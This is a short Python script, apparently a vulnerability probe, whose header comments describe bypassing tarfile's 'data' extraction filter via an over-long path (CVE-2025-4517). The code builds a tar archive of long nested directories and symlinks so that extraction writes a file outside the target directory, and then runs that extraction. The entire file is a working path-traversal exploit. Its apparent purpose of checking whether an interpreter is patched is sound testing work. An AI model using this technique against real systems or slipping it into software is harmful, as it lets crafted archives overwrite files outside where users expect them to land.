# aim = "outside"
# tries = "Gets around the filter for data by a path too long to be resolved (CVE-2025-4517)."
# control = "mended in CPython 3.11.13; this machine's may have it or not"
import io
import os
import tarfile

stream = io.BytesIO()
component = "d" * (247 if os.sep == "/" else 55)
with tarfile.open(fileobj=stream, mode="w") as archive:
    path = ""
    for letter in "abcdefghijklmnop":
        directory = tarfile.TarInfo(path + component)
        directory.type = tarfile.DIRTYPE
        archive.addfile(directory)
        link = tarfile.TarInfo(path + letter)
        link.type, link.linkname = tarfile.SYMTYPE, component
        archive.addfile(link)
        path += component + "/"
    short = "/".join("abcdefghijklmnop")
    link = tarfile.TarInfo(short + "/" + "l" * 254)
    link.type, link.linkname = tarfile.SYMTYPE, "../" * 16
    archive.addfile(link)
    escape = tarfile.TarInfo("escape")
    escape.type, escape.linkname = tarfile.SYMTYPE, link.name + "/../outside"
    archive.addfile(escape)
    archive.addfile(tarfile.TarInfo("escape/planted.txt"), io.BytesIO(b""))
stream.seek(0)
tarfile.open(fileobj=stream).extractall(filter="data")
